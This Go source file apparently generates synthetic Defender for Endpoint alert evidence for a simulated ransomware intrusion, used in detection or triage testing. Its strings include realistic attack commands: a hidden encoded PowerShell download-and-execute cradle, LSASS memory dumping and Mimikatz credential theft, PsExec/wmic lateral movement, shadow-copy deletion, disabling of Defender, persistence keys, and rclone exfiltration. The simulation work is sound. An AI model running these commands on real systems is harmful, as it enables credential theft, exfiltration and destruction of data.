package gen

import (
	"encoding/base64"
	"strings"
	"unicode/utf16"
)

// Evidence writers of the Defender for Endpoint detectors. event.dev is the
// device the alert is about, event.user the account that ran the process
// (sysAccount for SYSTEM), event.dev2 the remote device of lateral movement.

var puaFiles = func() []file {
	fs := make([]file, len(pua))
	for i, p := range pua {
		fs[i] = fixedFile(p.file, `C:\Users\Public\Downloads`, "", 1200000+int64(i)*313337)
	}
	return fs
}()

var (
	filePsExec    = fixedFile("PsExec64.exe", `C:\Windows\Temp`, "Microsoft Corporation", 833472)
	fileRclone    = fixedFile("rclone.exe", `C:\ProgramData\sync`, "", 51200000)
	file7z        = fixedFile("7z.exe", `C:\Program Files\7-Zip`, "Igor Pavlov", 545792)
	fileVssadmin  = fixedFile("vssadmin.exe", `C:\Windows\System32`, "Microsoft Windows", 135168)
	fileSchtasks  = fixedFile("schtasks.exe", `C:\Windows\System32`, "Microsoft Windows", 235008)
	fileW3wp      = fixedFile("w3wp.exe", `C:\Windows\System32\inetsrv`, "Microsoft Windows", 30720)
	fileExplorer  = fixedFile("explorer.exe", `C:\Windows`, "Microsoft Windows", 5434328)
	fileEdge      = fixedFile("msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application`, "Microsoft Corporation", 4172824)
	fileAdFind    = fixedFile("AdFind.exe", `C:\ProgramData`, "", 1589248)
	fileBackupSvc = fixedFile("BackupAgentDeploy.exe", `C:\Program Files\BackupAgent`, "Contoso Backup Software Ltd", 2931712)
)

// mainRoles are the roles of the device or user an alert is about.
func (r *renderer) mainRoles() []string {
	if r.noise() {
		return nil
	}
	return []string{"compromised"}
}

// actor returns the account that ran the alert's process.
func (r *renderer) actor() int32 {
	if r.e.user == -1 {
		return sysAccount
	}
	return r.e.user
}

// userEvidence writes the account of event.user as Defender for Endpoint
// names it, unless it is SYSTEM, which most alerts leave out.
func (r *renderer) endpointUser() {
	if r.e.user >= 0 {
		r.user(r.e.user, srcMDE, "unknown", r.mainRoles())
	} else if r.r.IntN(3) == 0 {
		r.user(sysAccount, srcMDE, "unknown", nil)
	}
}

func (r *renderer) downloadsPath(u int32) string {
	if u < 0 {
		return `C:\Windows\Temp`
	}
	return `C:\Users\` + r.o.users[u].sam + `\Downloads`
}

func evPUA(r *renderer) {
	e := r.e
	p := &pua[int(e.arg)%len(pua)]
	f := puaFiles[int(e.arg)%len(pua)]
	f.path = r.downloadsPath(e.user)
	r.threat = p.threat
	r.deviceMDE(e.dev, nil, "PrimaryDevice")
	r.file(&f, e.dev, "suspicious", pick(r.r, []string{"detected", "prevented", "blocked"}), nil)
	if r.r.IntN(3) == 0 {
		r.file(&fileUpdater, e.dev, "unknown", "", []string{"contextual"}, "Parent process image")
	}
	r.endpointUser()
}

func evEicar(r *renderer) {
	e := r.e
	r.threat = "Virus:DOS/EICAR_Test_File"
	r.family = "EICAR_Test_File"
	f := fileEicar
	f.path = r.downloadsPath(e.user)
	r.deviceMDE(e.dev, nil, "PrimaryDevice")
	r.file(&f, e.dev, "malicious", "prevented", nil)
	r.endpointUser()
}

func evMalwareAV(r *renderer) {
	e, a := r.e, r.a
	r.threat, r.family = a.threat, a.family
	f := a.payload
	f.path = r.downloadsPath(e.user)
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.file(&f, e.dev, "malicious", "detected", []string{"compromised"})
	r.endpointUser()
}

// encodedCommand returns PowerShell's -EncodedCommand form of script.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

var adminScripts = []string{
	`powershell.exe -ExecutionPolicy Bypass -File \\%d\NETLOGON\Inventory.ps1`,
	`powershell.exe -NoProfile -Command "Get-CimInstance Win32_Product | Export-Csv C:\ProgramData\inventory.csv"`,
	`powershell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest https://aka.ms/installazurecliwindows -OutFile AzureCLI.msi"`,
	`powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand %e`,
	`powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\Reset-PrinterQueue.ps1`,
}

func evPowerShell(r *renderer) {
	e := r.e
	var cmd string
	if r.noise() {
		cmd = adminScripts[int(e.arg)%len(adminScripts)]
		cmd = strings.Replace(cmd, "%d", r.o.domain, 1)
		cmd = strings.Replace(cmd, "%e", encodedCommand("Get-Service | Where-Object Status -eq 'Stopped' | Start-Service"), 1)
	} else {
		cmd = "powershell.exe -NoP -NonI -W Hidden -Enc " + encodedCommand("IEX (New-Object Net.WebClient).DownloadString('"+r.a.c2+"')")
	}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&filePowerShell, cmd, &fileCmd, r.actor(), e.dev, r.bad(), nil)
	if !r.noise() || r.r.IntN(4) == 0 {
		r.file(&filePowerShell, e.dev, "unknown", "", []string{"contextual"}, "Process image")
	}
	if !r.noise() {
		r.url(r.a.c2, "malicious", []string{"commandAndControl"}, "Referred in command line")
	}
	r.endpointUser()
}

func evDropped(r *renderer) {
	e, a := r.e, r.a
	f := a.payload
	f.path = r.downloadsPath(e.user)
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&f, `"`+f.path+`\`+f.name+`"`, &fileEdge, r.actor(), e.dev, "malicious", nil)
	r.file(&f, e.dev, "malicious", "detected", []string{"created"})
	r.url(a.url, "malicious", []string{"source"}, "Download source")
	r.endpointUser()
}

func evOfficeChild(r *renderer) {
	e := r.e
	var cmd string
	if r.noise() {
		cmd = `cmd.exe /c "\\` + r.o.domain + `\dfs\Finance\Macros\refresh_links.bat"`
	} else {
		cmd = `cmd.exe /c powershell -w hidden -c "iwr ` + r.a.url + ` -OutFile $env:TEMP\` + r.a.payload.name + `; Start-Process $env:TEMP\` + r.a.payload.name + `"`
	}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileCmd, cmd, &fileWinword, r.actor(), e.dev, r.bad(), nil)
	r.file(&fileWinword, e.dev, "unknown", "", []string{"contextual"}, "Parent process image")
	if !r.noise() {
		doc := r.a.attachment
		doc.path = `C:\Users\` + r.o.users[max(e.user, 0)].sam + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook`
		r.file(&doc, e.dev, "malicious", "detected", []string{"loaded"}, "Opened document")
	}
	r.endpointUser()
}

func evLsass(r *renderer) {
	e := r.e
	cmd := `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\` + hexString(r.r, 6) + `.dmp full`
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileRundll32, cmd, &filePowerShell, r.actor(), e.dev, "malicious", []string{"suspicious"})
	r.file(&fileRundll32, e.dev, "unknown", "", []string{"contextual"}, "Process image")
	r.endpointUser()
}

func evMimikatz(r *renderer) {
	e, a := r.e, r.a
	r.threat, r.family = "HackTool:Win32/Mimikatz", "Mimikatz"
	f := a.tool2
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&f, f.name+` "privilege::debug" "sekurlsa::logonpasswords" exit`, &fileCmd, r.actor(), e.dev, "malicious", nil)
	r.file(&f, e.dev, "malicious", "detected", []string{"created"})
	r.endpointUser()
}

func evDiscovery(r *renderer) {
	e := r.e
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileCmd, `cmd.exe /c "net group "Domain Admins" /domain & nltest /domain_trusts & net view /all"`, &filePowerShell, r.actor(), e.dev, "suspicious", nil)
	if !r.noise() {
		r.process(&fileAdFind, `AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem`, &fileCmd, r.actor(), e.dev, "suspicious", nil)
	}
	r.endpointUser()
}

func evRemoteActivity(r *renderer) {
	e := r.e
	dst := r.o.devices[e.dev2].host
	r.deviceMDE(e.dev, []string{"source"}, "Source device")
	r.deviceMDE(e.dev2, []string{"destination", "compromised"}, "Destination device")
	if r.r.IntN(2) == 0 {
		r.process(&filePsExec, `PsExec64.exe \\`+dst+` -accepteula -s -d cmd.exe /c "C:\Windows\Temp\`+r.a.tool.name+`"`, &fileCmd, r.actor(), e.dev, "suspicious", nil)
		r.file(&filePsExec, e.dev, "suspicious", "", []string{"added"}, "Lateral movement tool")
	} else {
		r.process(&fileCmd, `wmic.exe /node:"`+dst+`" process call create "cmd.exe /c C:\Windows\Temp\`+r.a.tool.name+`"`, &filePowerShell, r.actor(), e.dev, "suspicious", nil)
	}
	r.endpointUser()
}

func evServiceInstall(r *renderer) {
	e := r.e
	name, img := "PSEXESVC", filePsExec
	if r.noise() {
		name, img = "BackupAgentDeploy", fileBackupSvc
	}
	actor := r.actor()
	if r.noise() {
		actor = sysAccount // the agent's service runs as SYSTEM; the user evidence says who installed it
	}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&img, img.path+`\`+img.name+` -service`, &fileServices, actor, e.dev, r.bad(), nil)
	r.registryValue("HKEY_LOCAL_MACHINE", `SYSTEM\CurrentControlSet\Services\`+name, "ImagePath", img.path+`\`+img.name, []string{"created"})
	if !r.noise() {
		r.file(&img, e.dev, r.bad(), "", []string{"created"})
	}
	r.endpointUser()
}

func (r *renderer) ransomBinary() file {
	f := r.a.tool
	f.path = `C:\Windows\Temp`
	return f
}

func evRansomFS(r *renderer) {
	e := r.e
	f := r.ransomBinary()
	r.family = r.a.ransomFamily
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&f, f.path+`\`+f.name+` -path \\`+r.o.devices[e.dev].host+`\D$ -threads 8`, &fileServices, r.actor(), e.dev, "malicious", nil)
	r.file(&f, e.dev, "malicious", "detected", []string{"created"})
	note := file{name: "README-" + r.a.noteID + ".txt", path: `D:\Shares`, sha256: r.a.note.sha256, sha1: r.a.note.sha1, md5: r.a.note.md5, size: 4096}
	r.file(&note, e.dev, "malicious", "detected", []string{"created"}, "Ransom note")
	r.endpointUser()
}

func evRansomAV(r *renderer) {
	e := r.e
	f := r.ransomBinary()
	r.threat, r.family = r.a.ransomThreat, r.a.ransomFamily
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.file(&f, e.dev, "malicious", "detected", []string{"compromised"})
	r.endpointUser()
}

func evShadowDelete(r *renderer) {
	e := r.e
	f := r.ransomBinary()
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileVssadmin, "vssadmin.exe delete shadows /all /quiet", &f, r.actor(), e.dev, "malicious", nil)
	r.file(&f, e.dev, "malicious", "", []string{"contextual"}, "Parent process image")
	r.endpointUser()
}

func evTamper(r *renderer) {
	e := r.e
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&filePowerShell, `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\Windows\Temp`, &fileCmd, r.actor(), e.dev, "malicious", nil)
	r.file(&filePowerShell, e.dev, "unknown", "", []string{"contextual"}, "Process image")
	r.endpointUser()
}

func evWebShell(r *renderer) {
	e := r.e
	shell := r.a.webShell
	shell.path = `C:\inetpub\wwwroot\aspnet_client\system_web`
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileCmd, `cmd.exe /c whoami /all & ipconfig /all`, &fileW3wp, r.actor(), e.dev, "malicious", nil)
	r.file(&shell, e.dev, "malicious", "detected", []string{"created"}, "Web shell")
	r.ip(r.a.ips[0], r.a.country, "malicious", []string{"attacker"})
	r.endpointUser()
}

func evSchTask(r *renderer) {
	e := r.e
	f := r.a.tool
	f.path = `C:\Users\` + r.o.users[max(e.user, 0)].sam + `\AppData\Roaming\Microsoft`
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileSchtasks, `schtasks.exe /create /sc onlogon /tn "MicrosoftEdgeUpdateTaskCore" /tr "`+f.path+`\`+f.name+`" /f`, &fileCmd, r.actor(), e.dev, "malicious", nil)
	r.file(&f, e.dev, "malicious", "detected", []string{"added"})
	r.endpointUser()
}

func evRunKey(r *renderer) {
	e := r.e
	f := fileUpdater
	name := "OneDrive"
	if !r.noise() {
		f, name = r.a.tool, "SecurityHealthUpdate"
		f.path = `C:\Users\` + r.o.users[max(e.user, 0)].sam + `\AppData\Local\Temp`
	}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.registryValue("HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\Run`, name, `"`+f.path+`\`+f.name+`" /background`, []string{"added"})
	r.file(&f, e.dev, r.bad(), "", []string{"added"})
	r.endpointUser()
}

var adwareHosts = []string{"cdn.freestreamz.biz", "track.adsrvmedia.net", "get.coupon-helper.xyz", "static.pushnotify.club", "dl.driverfix-pro.info"}

func evC2(r *renderer) {
	e := r.e
	var img file
	var addr, country, u string
	if r.noise() {
		img = fileEdge
		addr, country = publicIP(r.r), pick(r.r, travelCountries)
		u = "https://" + adwareHosts[int(e.arg)%len(adwareHosts)] + "/"
	} else {
		img = r.a.tool
		img.path = `C:\Users\` + r.o.users[max(e.user, 0)].sam + `\AppData\Roaming\Microsoft`
		addr, country, u = r.a.ips[0], r.a.country, r.a.c2
	}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&img, `"`+img.path+`\`+img.name+`"`, &fileExplorer, r.actor(), e.dev, r.bad(), nil)
	r.ip(addr, country, r.bad(), []string{"destination"})
	r.url(u, r.bad(), []string{"commandAndControl"})
	r.endpointUser()
}

func evExfil(r *renderer) {
	e, a := r.e, r.a
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&fileRclone, `rclone.exe copy D:\Shares\Finance remote:backup --transfers 16 --config C:\ProgramData\sync\rclone.conf`, &fileCmd, r.actor(), e.dev, "malicious", nil)
	r.file(&fileRclone, e.dev, "suspicious", "", []string{"added"})
	r.ip(a.exfilIP, a.country, "malicious", []string{"destination"})
	r.url("https://"+a.app.host, "suspicious", []string{"destination"})
	r.endpointUser()
}

func evArchive(r *renderer) {
	e := r.e
	arc := file{name: "backup_" + hexString(r.r, 4) + ".7z", path: `C:\ProgramData\sync`, sha256: hexString(r.r, 64), sha1: hexString(r.r, 40), md5: hexString(r.r, 32), size: 900000000 + r.r.Int64N(3000000000)}
	r.deviceMDE(e.dev, r.mainRoles(), "PrimaryDevice")
	r.process(&file7z, `7z.exe a -t7z -mhe=on -p`+hexString(r.r, 10)+` `+arc.path+`\`+arc.name+` D:\Shares\Finance D:\Shares\HR`, &fileCmd, r.actor(), e.dev, "suspicious", nil)
	r.file(&arc, e.dev, "suspicious", "", []string{"created"})
	r.endpointUser()
}
